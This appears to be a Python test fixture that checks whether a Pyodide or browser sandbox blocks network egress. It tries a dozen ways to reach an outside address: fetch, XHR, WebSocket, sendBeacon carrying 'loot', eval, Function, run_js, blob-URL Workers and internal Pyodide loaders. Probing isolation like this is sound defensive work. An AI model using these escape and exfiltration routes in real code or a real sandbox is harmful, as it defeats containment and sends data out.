"""A dataflow that tries to send data over the network, to the address in `outside.txt`."""

import asyncio
import urllib.request
from collections.abc import Callable
from pathlib import Path

import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
from pyodide.http import open_url, pyfetch

OUTSIDE = Path(__file__).with_name("outside.txt").read_text()


def _tried(attempt: Callable[[], object]) -> str:
    try:
        return f"begun: {attempt()}"
    except BaseException as refusal:  # noqa: BLE001 - any refusal counts
        return f"{type(refusal).__name__}: {refusal}"


def js_fetch() -> str:
    return _tried(lambda: js.fetch(OUTSIDE + "js_fetch"))


def js_request() -> str:
    def attempt() -> None:
        request = js.XMLHttpRequest.new()
        request.open("GET", OUTSIDE + "js_request", False)
        request.send()

    return _tried(attempt)


def js_websocket() -> str:
    return _tried(lambda: js.WebSocket.new(OUTSIDE.replace("http:", "ws:") + "js_websocket"))


def js_events() -> str:
    return _tried(lambda: js.EventSource.new(OUTSIDE + "js_events"))


def js_import_scripts() -> str:
    return _tried(lambda: js.importScripts(OUTSIDE + "js_import_scripts"))


def js_beacon() -> str:
    return _tried(lambda: js.navigator.sendBeacon(OUTSIDE + "js_beacon", "loot"))


def js_eval() -> str:
    return _tried(lambda: js.eval(f"fetch('{OUTSIDE}js_eval')"))


def js_function() -> str:
    def attempt() -> object:
        return js.Function.new(f"fetch('{OUTSIDE}js_function')")()

    return _tried(attempt)


def python_run_js() -> str:
    return _tried(lambda: run_js(f"fetch('{OUTSIDE}python_run_js')"))


def python_fetch() -> str:
    return _tried(lambda: asyncio.ensure_future(pyfetch(OUTSIDE + "python_fetch")))


def python_open_url() -> str:
    return _tried(lambda: open_url(OUTSIDE + "python_open_url"))


def python_urllib() -> str:
    return _tried(lambda: urllib.request.urlopen(OUTSIDE + "python_urllib", timeout=1))  # noqa: S310


def script() -> list[str]:
    """Custom JavaScript, run in each way that Python offers. If one worked, the script could try all of `attempts.js`."""
    code = f"fetch('{OUTSIDE}script')"

    def address() -> str:
        return js.URL.createObjectURL(js.Blob.new(to_js([code]), type="text/javascript"))

    attempts = [
        lambda: run_js(code),
        lambda: js.eval(code),
        lambda: js.Function.new(code)(),
        lambda: js.Function.prototype.constructor(code)(),
        lambda: js.setTimeout(code, 0),
        lambda: js.setInterval(code, 0),
        lambda: js.importScripts(address()),
        lambda: js.Worker.new(address()),
        lambda: js.SharedWorker.new(address()),
        lambda: pyodide_js._api.importScripts(address()),
        lambda: pyodide_js._module.loadScript(address()),
    ]
    return [_tried(attempt) for attempt in attempts]
